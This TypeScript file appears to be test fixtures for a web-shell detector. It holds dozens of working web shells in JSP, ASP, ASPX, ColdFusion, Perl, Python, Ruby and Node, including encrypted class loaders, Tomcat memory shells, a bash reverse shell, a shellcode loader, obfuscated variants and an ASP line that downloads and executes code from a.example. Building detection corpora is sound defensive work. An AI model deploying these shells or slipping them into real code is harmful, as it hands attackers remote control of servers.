import type { Language } from '../../src/model/finding.ts'

const codes = (text: string): string => Array.from(text, (c) => c.charCodeAt(0)).join(',')
const unicode = (text: string): string =>
  Array.from(text, (c) => (/[a-z]/i.test(c) ? `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}` : c)).join('')
const entities = (text: string): string => Array.from(text, (c) => `&#x${c.charCodeAt(0).toString(16)};`).join('')
const base64 = (text: string): string => Buffer.from(text).toString('base64')

const JSP_BODY =
  'Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", request.getParameter("cmd")}); java.io.InputStream in = p.getInputStream(); int a; while ((a = in.read()) != -1) { out.print((char) a); }'

/** Pages in Java. */
export const JSP: readonly string[] = [
  `<%@ page import="java.io.*,java.util.*" %><form><input name="cmd"></form><pre><% if (request.getParameter("cmd") != null) { out.println("Command: " + request.getParameter("cmd")); Process p; if (System.getProperty("os.name").toLowerCase().indexOf("windows") != -1) { p = Runtime.getRuntime().exec("cmd.exe /C " + request.getParameter("cmd")); } else { p = Runtime.getRuntime().exec(request.getParameter("cmd")); } OutputStream os = p.getOutputStream(); DataInputStream dis = new DataInputStream(p.getInputStream()); String disr = dis.readLine(); while (disr != null) { out.println(disr); disr = dis.readLine(); } } %></pre>`,
  `<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if (request.getMethod().equals("POST")){String k="e45e329feb5d925b";session.putValue("u",k);Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);}%>`,
  `<%! String xc="3c6e0b8a9c15224a"; String pass="pass"; class X extends ClassLoader{public X(ClassLoader z){super(z);}public Class Q(byte[] cb){return super.defineClass(cb, 0, cb.length);} }public byte[] x(byte[] s,boolean m){ try{javax.crypto.Cipher c=javax.crypto.Cipher.getInstance("AES");c.init(m?1:2,new javax.crypto.spec.SecretKeySpec(xc.getBytes(),"AES"));return c.doFinal(s); }catch (Exception e){return null; }} %><%try{byte[] data=new byte[Integer.parseInt(request.getHeader("Content-Length"))];java.io.InputStream inputStream= request.getInputStream();int _num=0;while ((_num+=inputStream.read(data,_num,data.length))<data.length);data=x(data, false);if (session.getAttribute("payload")==null){session.setAttribute("payload",new X(this.getClass().getClassLoader()).Q(data));}else{request.setAttribute("parameters", data);Object f=((Class)session.getAttribute("payload")).newInstance();java.io.ByteArrayOutputStream arrOut=new java.io.ByteArrayOutputStream();f.equals(arrOut);f.equals(pageContext);f.toString();response.getOutputStream().write(x(arrOut.toByteArray(), true));} }catch (Exception e){}%>`,
  `<%!public String EC(String s) throws Exception { return new String(s.getBytes("ISO-8859-1"), "UTF-8"); } void EE(String s, String d, String c, StringBuffer sb) throws Exception { String[] cc = {s.substring(2), s.substring(0, 2), c}; Process p = Runtime.getRuntime().exec(cc); MM(p.getInputStream(), sb); } void MM(java.io.InputStream is, StringBuffer sb) throws Exception { String l; java.io.BufferedReader br = new java.io.BufferedReader(new java.io.InputStreamReader(is)); while ((l = br.readLine()) != null) sb.append(l); }%><% String Z = EC(request.getParameter("z0") + ""); StringBuffer sb = new StringBuffer(""); if (Z.equals("M")) { EE(EC(request.getParameter("z1")), "", EC(request.getParameter("z2")), sb); } out.print(sb.toString()); %>`,
  `<%@ page import="java.lang.reflect.*" %><% String n = new StringBuilder("emitnuR.gnal.avaj").reverse().toString(); Class<?> c = Class.forName(n); Method g = c.getMethod(new String(new byte[]{${codes('getRuntime')}})); Object r = g.invoke(null); Method e = c.getMethod("e" + "x" + "ec", String.class); Object p = e.invoke(r, request.getParameter("x")); %>`,
  `<% ${unicode(JSP_BODY)} %>`,
  `<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:directive.page contentType="text/html"/><jsp:declaration>String z(String c) throws Exception { return new java.util.Scanner(new ProcessBuilder("sh", "-c", c).start().getInputStream()).useDelimiter("\\\\A").next(); }</jsp:declaration><jsp:scriptlet><![CDATA[ out.print(z(request.getParameter("q"))); ]]></jsp:scriptlet></jsp:root>`,
  `<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>${entities(JSP_BODY)}</jsp:scriptlet></jsp:root>`,
  `<demo:root xmlns:demo="http://java.sun.com/JSP/Page" version="2.0"><demo:scriptlet>${JSP_BODY.replaceAll('<', '&lt;')}</demo:scriptlet></demo:root>`,
  `<%@ page import="javax.script.*" %><% ScriptEngine e = new ScriptEngineManager().getEngineByExtension("js"); e.put("request", request); e.put("response", response); e.eval(request.getParameter("code")); %>`,
  `<% javax.script.ScriptEngine en = new javax.script.ScriptEngineManager().getEngineByName("nashorn"); String s = "java.lang.Runtime.getRuntime().exec('" + request.getParameter("c") + "')"; en.eval(s); %>`,
  `<%@ page import="com.sun.org.apache.bcel.internal.classfile.Utility" %><% String p = request.getParameter("p"); com.sun.org.apache.bcel.internal.util.ClassLoader cl = new com.sun.org.apache.bcel.internal.util.ClassLoader(); Class.forName("$$BCEL$$" + Utility.encode(p.getBytes(), true), true, cl).newInstance(); %>`,
  `<% java.net.URL[] u = { new java.net.URL(request.getParameter("jar")) }; ClassLoader l = java.net.URLClassLoader.newInstance(u); Object o = l.loadClass("Run").newInstance(); o.equals(request); %>`,
  `<% String n = request.getParameter("rmi"); System.setProperty("com.sun.jndi.rmi.object.trustURLCodebase", "true"); javax.naming.Context ctx = new javax.naming.InitialContext(); ctx.lookup(n); %>`,
  `<%@ page import="org.apache.catalina.core.*,org.apache.catalina.*,java.lang.reflect.*" %><% Field f = request.getServletContext().getClass().getDeclaredField("context"); f.setAccessible(true); ApplicationContext ac = (ApplicationContext) f.get(request.getServletContext()); Field sf = ac.getClass().getDeclaredField("context"); sf.setAccessible(true); StandardContext sc = (StandardContext) sf.get(ac); Wrapper w = sc.createWrapper(); w.setName("x"); w.setServlet(new HttpServletX()); sc.addChild(w); sc.addServletMappingDecoded("/x", "x"); %><%! class HttpServletX extends javax.servlet.http.HttpServlet { protected void doGet(javax.servlet.http.HttpServletRequest a, javax.servlet.http.HttpServletResponse b) { try { Runtime.getRuntime().exec(a.getParameter("c")); } catch (Exception e) {} } } %>`,
  `<%! class V extends org.apache.catalina.valves.ValveBase { public void invoke(org.apache.catalina.connector.Request r, org.apache.catalina.connector.Response s) { try { new ProcessBuilder(r.getHeader("c").split(" ")).start(); } catch (Exception e) { } } } %><% ((org.apache.catalina.core.StandardContext) ctx).getPipeline().addValve(new V()); %>`,
  `<% String f = request.getParameter("f"); String t = request.getParameter("t"); if (f != null) { java.io.RandomAccessFile r = new java.io.RandomAccessFile(application.getRealPath("/") + "/" + f, "rw"); r.write(t.getBytes()); r.close(); } %>`,
  `<%@ page import="org.apache.commons.fileupload.*,org.apache.commons.fileupload.servlet.*,org.apache.commons.fileupload.disk.*,java.util.*,java.io.*" %><% ServletFileUpload u = new ServletFileUpload(new DiskFileItemFactory()); List items = u.parseRequest(request); for (Object o : items) { FileItem i = (FileItem) o; if (!i.isFormField()) { i.write(new File(application.getRealPath("/"), i.getName())); } } %>`,
  `<% for (javax.servlet.http.Part part : request.getParts()) { part.write(getServletContext().getRealPath("") + java.io.File.separator + part.getSubmittedFileName()); } %>`,
  `<% java.nio.file.Files.write(java.nio.file.Paths.get(request.getParameter("p")), java.util.Base64.getDecoder().decode(request.getParameter("b"))); %>`,
  `<%@ page import="java.io.*" %><% String d = request.getParameter("dir"); File[] l = new File(d).listFiles(); for (File x : l) { out.println(x.getName()); } if (request.getParameter("del") != null) new File(request.getParameter("del")).delete(); if (request.getParameter("ren") != null) new File(request.getParameter("ren")).renameTo(new File(request.getParameter("to"))); if (request.getParameter("get") != null) { FileInputStream i = new FileInputStream(request.getParameter("get")); int b; while ((b = i.read()) != -1) out.write(b); } %>`,
  `<%@page import="java.nio.*,java.nio.channels.*,java.net.*"%><% String cmd = request.getHeader("X-CMD"); if ("CONNECT".compareTo(cmd) == 0) { String target = request.getHeader("X-TARGET"); int port = Integer.parseInt(request.getHeader("X-PORT")); SocketChannel s = SocketChannel.open(); s.connect(new InetSocketAddress(target, port)); s.configureBlocking(false); session.setAttribute("socket", s); } else if ("FORWARD".compareTo(cmd) == 0) { SocketChannel s = (SocketChannel) session.getAttribute("socket"); byte[] b = new byte[4096]; request.getInputStream().read(b); s.write(ByteBuffer.wrap(b)); } %>`,
  `<%! class P implements Runnable { java.io.InputStream i; java.io.OutputStream o; P(java.io.InputStream a, java.io.OutputStream b) { i = a; o = b; } public void run() { try { byte[] b = new byte[1024]; int n; while ((n = i.read(b)) > 0) { o.write(b, 0, n); o.flush(); } } catch (Exception e) {} } } %><% java.net.Socket s = new java.net.Socket(request.getParameter("h"), Integer.parseInt(request.getParameter("p"))); Process q = new ProcessBuilder("/bin/bash").redirectErrorStream(true).start(); new Thread(new P(q.getInputStream(), s.getOutputStream())).start(); new Thread(new P(s.getInputStream(), q.getOutputStream())).start(); %>`,
  `<% java.beans.XMLDecoder d = new java.beans.XMLDecoder(new java.io.ByteArrayInputStream(request.getParameter("x").getBytes())); d.readObject(); %>`,
  `<% new java.io.ObjectInputStream(request.getInputStream()).readObject(); %>`,
  `<% groovy.lang.GroovyShell g = new groovy.lang.GroovyShell(); g.evaluate(request.getParameter("g")); %>`,
  `<% jdk.jshell.JShell j = jdk.jshell.JShell.create(); j.eval(request.getParameter("j")); %>`,
  `<% javax.el.ELProcessor el = new javax.el.ELProcessor(); el.eval(request.getParameter("e")); %>`,
  `<%@ page import="javax.tools.*" %><% JavaCompiler c = ToolProvider.getSystemJavaCompiler(); java.io.File f = new java.io.File("/tmp/A.java"); java.io.FileWriter w = new java.io.FileWriter(f); w.write(request.getParameter("src")); w.close(); c.run(null, null, null, f.getPath()); new java.net.URLClassLoader(new java.net.URL[]{new java.io.File("/tmp").toURI().toURL()}).loadClass("A").newInstance(); %>`,
  `<% sun.misc.Unsafe u = null; java.lang.reflect.Field f = sun.misc.Unsafe.class.getDeclaredField("theUnsafe"); f.setAccessible(true); u = (sun.misc.Unsafe) f.get(null); byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("b")); u.defineAnonymousClass(String.class, b, null).newInstance(); %>`,
  `\${"".getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js").eval(param.x)}`,
  `<%@ taglib prefix="c" uri="http://java.sun.com/jsp/jstl/core" %><c:set var="a" value="\${pageContext.getClass().getClassLoader().loadClass('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec(param['cmd'])}"/>`,
  `<% String s = request.getParameter("c"); java.lang.reflect.Constructor k = Class.forName("java.lang.ProcessBuilder").getConstructor(String[].class); Object o = k.newInstance(new Object[]{new String[]{"sh", "-c", s}}); o.getClass().getMethod("start").invoke(o); %>`,
  `<%! static String dec(String s) { byte[] b = java.util.Base64.getDecoder().decode(s); for (int i = 0; i < b.length; i++) b[i] ^= 7; return new String(b); } %><% Class k = Class.forName(dec("${Buffer.from(Array.from('java.lang.Runtime', (c) => c.charCodeAt(0) ^ 7)).toString('base64')}")); Object r = k.getMethod(dec("x")).invoke(null); k.getMethod(dec("y"), String.class).invoke(r, request.getParameter("z")); %>`,
]

/** Classic pages. */
export const ASP: readonly string[] = [
  `<%@ Language=VBScript %><% Dim oScript, oFileSys, szCMD: On Error Resume Next: Set oScript = Server.CreateObject("WSCRIPT.SHELL"): Set oFileSys = Server.CreateObject("Scripting.FileSystemObject"): szCMD = Request.Form(".CMD"): If (szCMD <> "") Then: szTempFile = "C:\\" & oFileSys.GetTempName(): Call oScript.Run("cmd.exe /c " & szCMD & " > " & szTempFile, 0, True): Set oFile = oFileSys.OpenTextFile(szTempFile, 1, False, 0): End If %>`,
  `<%\nFunction bytes2BSTR(vIn)\nDim s, i\nFor i = 1 To LenB(vIn)\ns = s & Chr(AscB(MidB(vIn, i, 1)))\nNext\nbytes2BSTR = s\nEnd Function\nk = "e45e329feb5d925b"\nSession("k") = k\nsize = Request.TotalBytes\ncontent = Request.BinaryRead(size)\nFor i = 1 To size\nresult = result & Chr(Asc(MidB(content, i, 1)) Xor Asc(Mid(k, (i And 15) + 1, 1)))\nNext\nexecute(result)\n%>`,
  `<%\nSet bypassDictionary = Server.CreateObject("Scripting.Dictionary")\nFunction decryption(content, isBin)\nDim size, i, result, keySize\nkeySize = Len(key)\nSet BinaryStream = CreateObject("ADODB.Stream")\nBinaryStream.Write content\ndecryption = BinaryStream.ReadText\nEnd Function\nkey = "3c6e0b8a9c15224a"\ncontent = request.Form("pass")\nIf Not IsEmpty(content) Then\nIf IsEmpty(Session("payload")) Then\nSession("payload") = decryption(content, False)\nElse\nbypassDictionary.Add "payload", Session("payload")\nExecute(bypassDictionary("payload"))\nEnd If\nEnd If\n%>`,
  `<%a=request("z"):Set b=new c:b.d a%><%Class c:Public Sub d(e):ExecuteGlobal e:End Sub:End Class%>`,
  `<%\nx = "E" & "x" & "e" & "c" & "u" & "te"\nSet s = CreateObject("MSScriptControl.ScriptControl")\ns.Language = "VBScript"\ns.AddObject "Request", Request\ns.Eval Request("q")\n%>`,
  `<%\nSet fso = Server.CreateObject("Scripting.FileSystemObject")\npath = Request("path")\nSelect Case Request("act")\nCase "del": fso.DeleteFile path\nCase "list": Set f = fso.GetFolder(path): For Each i In f.Files: Response.Write i.Name: Next\nCase "save": Set t = fso.CreateTextFile(path): t.Write Request.Form("data"): t.Close\nCase "copy": fso.CopyFile path, Request("to")\nEnd Select\n%>`,
  `<%\nSet upl = Server.CreateObject("SoftArtisans.FileUp")\nupl.SaveAs Server.MapPath(Request.QueryString("f"))\n%>`,
  `<%\nSet cn = Server.CreateObject("ADODB.Connection")\ncn.Open Request("dsn")\ncn.Execute "exec master..xp_cmdshell '" & Request("c") & "'"\n%>`,
  `<object runat="server" id="ws" scope="page" classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object><% Response.Write ws.Exec("cmd.exe /c " & Request("c")).StdOut.ReadAll %>`,
  `<%@ language="JScript" %><% var f = "ev" + "al"; var g = this[f]; g(Request.Form("c").Item + ""); %>`,
  `<script language="vbscript" runat="server">\nIf Request("p") <> "" Then Session("c") = Request("p")\nIf Session("c") <> "" Then Execute(Session("c"))\n</script>`,
  `<% Function h(s): For i = 1 To Len(s) Step 2: h = h & Chr("&H" & Mid(s, i, 2)): Next: End Function: Execute h("${Buffer.from('execute(request("c"))').toString('hex')}") %>`,
  `<% Set x = CreateObject("Microsoft.XMLDOM"): Set n = x.createElement("b"): n.dataType = "bin.base64": n.text = Request("b"): Set s = CreateObject("ADODB.Stream"): s.Type = 1: s.Open: s.Write n.nodeTypedValue: s.SaveToFile Server.MapPath(Request("f")), 2 %>`,
  `<% Set h = Server.CreateObject("MSXML2.ServerXMLHTTP"): h.Open "GET", "http://a.example/x.txt", False: h.Send: ExecuteGlobal h.ResponseText %>`,
  `<%\n' <!--\nOn Error Resume Next\neXeCuTe(rEqUeSt("a"))\n%>`,
  `<%@ LANGUAGE = VBScript.Encode %><%#@~^FgAAAA==+6mE^O+~]+5!+dYcE1r#8QgAAA==^#~@%>`,
]

/** Pages of .NET. */
export const ASPX: readonly string[] = [
  `<%@ Page Language="C#" validateRequest="false" %><%@ Import Namespace="System.Diagnostics" %><script runat="server">
void Page_Load(object sender, EventArgs e) { }
string ExcuteCmd(string arg) { ProcessStartInfo psi = new ProcessStartInfo(); psi.FileName = "cmd.exe"; psi.Arguments = "/c " + arg; psi.RedirectStandardOutput = true; psi.UseShellExecute = false; Process p = Process.Start(psi); return p.StandardOutput.ReadToEnd(); }
void cmdExe_Click(object sender, System.EventArgs e) { Response.Write(Server.HtmlEncode(ExcuteCmd(txtArg.Text))); }
</script><form runat="server"><asp:TextBox id="txtArg" runat="server"/><asp:Button OnClick="cmdExe_Click" runat="server"/></form>`,
  `<%@ Page Language="C#"%><%@Import Namespace="System.Reflection"%><%Session.Add("k","e45e329feb5d925b"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""),c = Request.BinaryRead(Request.ContentLength);Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>`,
  `<%@ Page Language="C#"%><%try { string key = "3c6e0b8a9c15224a"; byte[] data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(System.Text.Encoding.Default.GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(Context.Request.BinaryRead(Context.Request.ContentLength), 0, Context.Request.ContentLength); if (Context.Session["payload"] == null) { Context.Session["payload"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data }); } else { object o = ((System.Reflection.Assembly)Context.Session["payload"]).CreateInstance("LY"); o.Equals(Context); o.Equals(data); } } catch(System.Exception) { } %>`,
  `<%@ Page Language="Jscript" Debug=true%><% var a=System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.FromBase64String("${base64('unsafe')}")); var b = Request.Item["k"]; eval(b, a); %>`,
  `<%@ Page Language="Jscript"%><%function f(x){ return eval(x, "unsafe"); } f(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Headers["X-A"])));%>`,
  `<%@ WebHandler Language="C#" Class="Up" %>
using System; using System.Web; using System.IO;
public class Up : IHttpHandler { public void ProcessRequest(HttpContext context) { HttpPostedFile f = context.Request.Files[0]; string p = context.Server.MapPath("~/" + f.FileName); f.SaveAs(p); context.Response.Write(p); } public bool IsReusable { get { return false; } } }`,
  `<%@ WebHandler Language="C#" Class="H" %>
using System.Web; using System.IO;
public class H : IHttpHandler { public void ProcessRequest(HttpContext c) { StreamWriter w = File.CreateText(c.Server.MapPath(c.Request["n"])); w.Write(c.Request["d"]); w.Close(); } public bool IsReusable { get { return true; } } }`,
  `<%@ WebService LANGUAGE="C#" Class="Service" %>
using System.Web.Services; using System.IO;
public class Service : WebService { [WebMethod] public string Put(string name, string data) { File.WriteAllBytes(Server.MapPath(name), System.Convert.FromBase64String(data)); return name; } }`,
  `<%@ WebService Language="C#" Class="Cmd" %>
public class Cmd : System.Web.Services.WebService { [System.Web.Services.WebMethod] public string Exec(string c) { var t = System.Type.GetType("System.Diagnostics.Process, System"); var p = (System.Diagnostics.Process) System.Activator.CreateInstance(t); p.StartInfo.FileName = "/bin/sh"; p.StartInfo.Arguments = "-c \\"" + c + "\\""; p.Start(); return ""; } }`,
  `<%@ Page Language="VB" %><script runat="server">
Sub RunCmd(Src As Object, E As EventArgs)
Dim myProcess As New Process()
Dim myProcessStartInfo As New ProcessStartInfo(xpath.text)
myProcessStartInfo.Arguments = xcmd.text
myProcess.StartInfo = myProcessStartInfo
myProcess.Start()
End Sub
</script>`,
  `<%@ Page Language="VB" %><% Dim w = CreateObject("WScript.Shell"): Response.Write(w.Exec("cmd /c " & Request("c")).StdOut.ReadAll()) %>`,
  `<%@ Page Language="C#" %><% System.Web.HttpPostedFile f = Request.Files["f"]; if (f != null) f.SaveAs(System.IO.Path.Combine(Server.MapPath("."), System.IO.Path.GetFileName(f.FileName))); %>`,
  `<%@ Page Language="C#" %><script runat="server"> protected void Page_Load(object s, EventArgs e) { string d = Request["dir"]; foreach (var x in System.IO.Directory.GetFiles(d)) Response.Write(x); if (Request["del"] != null) System.IO.File.Delete(Request["del"]); if (Request["dl"] != null) Response.TransmitFile(Request["dl"]); } </script>`,
  `<%@ Page Language="C#" %><% var prov = System.CodeDom.Compiler.CodeDomProvider.CreateProvider("CSharp"); var res = prov.CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters { GenerateInMemory = true }, Request.Form["src"]); res.CompiledAssembly.GetType("P").GetMethod("M").Invoke(null, null); %>`,
  `<%@ Page Language="C#" %><script runat="server">
[System.Runtime.InteropServices.DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr b, int c, int d);
[System.Runtime.InteropServices.DllImport("kernel32")] static extern IntPtr CreateThread(IntPtr a, UIntPtr b, IntPtr c, IntPtr d, int e, ref IntPtr f);
void Page_Load(object s, EventArgs e) { byte[] b = Convert.FromBase64String(Request["b"]); IntPtr p = VirtualAlloc(IntPtr.Zero, (UIntPtr)b.Length, 0x1000, 0x40); System.Runtime.InteropServices.Marshal.Copy(b, 0, p, b.Length); IntPtr t = IntPtr.Zero; CreateThread(IntPtr.Zero, UIntPtr.Zero, p, IntPtr.Zero, 0, ref t); }
</script>`,
  `<%@ Page Language="C#" %><script runat="server"> public class F : System.Web.Mvc.IAuthorizationFilter { public void OnAuthorization(System.Web.Mvc.AuthorizationContext c) { var x = c.HttpContext.Request["cmd"]; if (x != null) System.Diagnostics.Process.Start("cmd.exe", "/c " + x); } } void Page_Load(object s, EventArgs e) { System.Web.Mvc.GlobalFilters.Filters.Add(new F()); } </script>`,
  `<%@ Page Language="C#" %><%@ Import Namespace="System.Net.Sockets" %><% string cmd = Request.Headers.Get("X-CMD"); if (cmd == "CONNECT") { Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); s.Connect(new System.Net.IPEndPoint(System.Net.IPAddress.Parse(Request.Headers.Get("X-TARGET")), int.Parse(Request.Headers.Get("X-PORT")))); Session.Add("s", s); } else if (cmd == "FORWARD") { Socket s = (Socket) Session["s"]; byte[] b = new byte[Request.ContentLength]; Request.InputStream.Read(b, 0, b.Length); s.Send(b); } %>`,
  `<%@ Page Language="C#" %><% var sql = new System.Data.SqlClient.SqlConnection(Request["cs"]); sql.Open(); var c = sql.CreateCommand(); c.CommandText = Request["q"]; c.ExecuteNonQuery(); %>`,
  `<%@ Page Language="C#" %><% ${unicode('System.Diagnostics.Process.Start')}("cmd.exe", "/c " + ${unicode('Request')}["c"]); %>`,
  `<%@ Page Language="C#" %><% var f = new System.Web.UI.LosFormatter(); f.Deserialize(Request.Form["__X"]); %>`,
  `<% @Page Language="C#" %><% var t = Type.GetType("System.Diagnostics." + "Proc" + "ess, System"); var m = t.GetMethod("St" + "art", new[] { typeof(string), typeof(string) }); m.Invoke(null, new object[] { "sh", Request.QueryString["a"] }); %>`,
]

/** Other languages. */
export const OTHERS: readonly (readonly [Language, string])[] = [
  [
    'cfm',
    '<cfif isDefined("form.cmd")><cfexecute name="C:\\Winnt\\System32\\cmd.exe" arguments="/c #form.cmd#" timeout="15" variable="out"></cfexecute><pre>#out#</pre></cfif>',
  ],
  [
    'cfm',
    '<cfscript>cmd = url.c; runtime = createObject("java", "java.lang.Runtime").getRuntime(); p = runtime.exec(["sh", "-c", cmd]); writeOutput(createObject("java","java.util.Scanner").init(p.getInputStream()).useDelimiter("\\\\A").next());</cfscript>',
  ],
  ['cfm', '<cffile action="upload" filefield="f" destination="#expandPath(".")#" nameconflict="overwrite">'],
  ['cfm', '<cfset x = createObject("java","java.lang.ProcessBuilder").init(listToArray(url.cmd," ")).start()>'],
  [
    'perl',
    '#!/usr/bin/perl -w\nuse strict;\nprint "Cache-Control: no-cache\\n";\nprint "Content-type: text/html\\n\\n";\nmy $req = $ENV{QUERY_STRING};\nchomp($req);\n$req =~ s/%20/ /g;\n$req =~ s/%3b/;/g;\nprint "<pre>";\nmy $cmd = `$req`;\nprint "$cmd</pre>";\n',
  ],
  [
    'perl',
    "#!/usr/bin/perl\nsub ReadParse { local (*in) = @_; read(STDIN, $in, $ENV{'CONTENT_LENGTH'}); foreach $p (split(/&/, $in)) { ($k, $v) = split(/=/, $p); $in{$k} = $v; } }\n&ReadParse;\n$RunCommand = $in{'c'};\nopen(CommandOutput, \"$RunCommand 2>&1 |\");\nwhile (<CommandOutput>) { print $_; }\n",
  ],
  [
    'perl',
    'use Mojolicious::Lite;\nget "/" => sub { my $c = shift; my $x = $c->param("x"); $c->render(text => qx{$x}); };\napp->start;\n',
  ],
  [
    'perl',
    '#!/usr/bin/perl\nuse CGI;\n$q = new CGI;\n$f = $q->param("file");\n$n = $q->param("name");\nopen(OUT, ">$n");\nwhile (<$f>) { print OUT; }\nclose OUT;\n',
  ],
  [
    'perl',
    '#!/usr/bin/perl\nuse CGI;\nuse MIME::Base64;\nmy $q = CGI->new;\nmy $code = decode_base64($q->param("p"));\neval $code;\n',
  ],
  [
    'python',
    '#!/usr/bin/env python\nimport cgi, subprocess, cgitb\ncgitb.enable()\nprint "Content-Type: text/html\\n"\nform = cgi.FieldStorage()\nif "c" in form:\n    p = subprocess.Popen(form["c"].value, shell=True, stdout=subprocess.PIPE)\n    print p.communicate()[0]\n',
  ],
  [
    'python',
    'from http.server import BaseHTTPRequestHandler, HTTPServer\nimport os\nclass H(BaseHTTPRequestHandler):\n    def do_POST(self):\n        n = int(self.headers["Content-Length"])\n        body = self.rfile.read(n).decode()\n        out = os.popen(body).read()\n        self.wfile.write(out.encode())\nHTTPServer(("", 8081), H).serve_forever()\n',
  ],
  [
    'python',
    'from django.http import HttpResponse\ndef view(request):\n    code = request.POST.get("c")\n    exec(compile(code, "x", "exec"))\n    return HttpResponse("ok")\n',
  ],
  [
    'python',
    'import base64\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route("/u", methods=["POST"])\ndef up():\n    f = request.files["f"]\n    f.save(request.form["path"])\n    return "ok"\n@app.route("/x")\ndef x():\n    return str(eval(base64.b64decode(request.headers["X-C"])))\n',
  ],
  [
    'python',
    'def application(environ, start_response):\n    import subprocess\n    size = int(environ.get("CONTENT_LENGTH", 0))\n    cmd = environ["wsgi.input"].read(size)\n    out = subprocess.check_output(cmd, shell=True)\n    start_response("200 OK", [])\n    return [out]\n',
  ],
  [
    'python',
    'import tornado.web, tornado.ioloop, os\nclass M(tornado.web.RequestHandler):\n    def get(self):\n        c = self.get_argument("c")\n        self.write(os.popen(c).read())\n',
  ],
  [
    'ruby',
    '#!/usr/bin/env ruby\nrequire "cgi"\nq = CGI.new\nputs q.header\nc = q.params["c"].first\nIO.popen(c) { |io| puts io.read }\n',
  ],
  [
    'ruby',
    'require "webrick"\ns = WEBrick::HTTPServer.new(Port: 8000)\ns.mount_proc("/") { |req, res| res.body = `#{req.query["c"]}` }\ns.start\n',
  ],
  [
    'ruby',
    'class ShellController < ApplicationController\n  def run\n    out, st = Open3.capture2e(params[:cmd])\n    render plain: out\n  end\nend\n',
  ],
  ['ruby', '<html><%= `#{params[:c]}` %><% instance_eval(request.env["HTTP_X_E"]) %></html>'],
  [
    'node',
    'const http = require("http"); const cp = require("child_process"); const url = require("url");\nhttp.createServer((req, res) => { const q = url.parse(req.url, true).query; if (q.cmd) { cp.exec(q.cmd, (e, so, se) => { res.end(so + se); }); } else { res.end(); } }).listen(8080);\n',
  ],
  [
    'node',
    'const app = require("express")(); app.use(require("body-parser").json()); const vm = require("vm");\napp.post("/e", (req, res) => { const out = vm.runInNewContext(req.body.code, { require }); res.json({ out }); });\napp.listen(3000);\n',
  ],
  [
    'node',
    'const express = require("express"); const { spawnSync } = require("child_process"); const r = express.Router();\nr.get("/:c", function (req, res) { const o = spawnSync("sh", ["-c", Buffer.from(req.params.c, "base64").toString()]); res.send(o.stdout); });\nmodule.exports = r;\n',
  ],
  [
    'node',
    'const net = require("net"), cp = require("child_process"), http = require("http");\nhttp.createServer(function (request, response) { var body = ""; request.on("data", function (d) { body += d; }); request.on("end", function () { new Function("require", body)(require); response.end(); }); }).listen(9000);\n',
  ],
  [
    'node',
    'const fastify = require("fastify")(); fastify.post("/x", async (request, reply) => { const f = request.body.fn; return global[f](request.body.arg) + eval(request.body.e); }); fastify.listen({ port: 1 });\n',
  ],
]
